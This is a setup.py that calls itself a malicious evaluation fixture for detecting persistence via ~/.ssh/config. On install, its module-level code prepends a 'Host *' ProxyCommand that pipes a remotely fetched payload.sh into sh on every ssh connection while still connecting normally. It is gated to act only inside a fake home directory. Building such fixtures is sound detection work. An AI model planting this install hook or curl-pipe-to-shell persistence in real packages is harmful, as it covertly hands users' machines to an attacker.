# Evaluation fixture (malicious): persistence through ~/.ssh/config.
# Module-level code prepends a "Host *" block whose ProxyCommand runs a
# fetched script every time the user connects anywhere with ssh (and still
# connects, so nothing looks wrong).  Acts only inside the evaluation: only
# when HOME is the fake home (SP_HOME).
import os

from setuptools import setup

BLOCK = ("Host *\n    ProxyCommand sh -c '(curl -fsSL http://%s:%s/jh/main/payload.sh | sh -s -- ssh"
         " >/dev/null 2>&1 &); exec nc %%h %%p'\n\n")

_home = os.environ.get("SP_HOME")
if _home and os.environ.get("HOME") == _home and os.environ.get("SP_TOKEN"):
    _cfg = os.path.join(_home, ".ssh", "config")
    try:
        with open(_cfg) as _f:
            _old = _f.read()
    except OSError:
        _old = ""
    if "payload.sh" not in _old:
        with open(_cfg, "w") as _f:
            _f.write(BLOCK % (os.environ.get("SP_CDN_HOST", "127.0.0.1"),
                              os.environ.get("SP_HTTP_PORT", "80")) + _old)

setup(name="ssh-config-proxycommand", version="0.1.4", py_modules=["jumphost"])
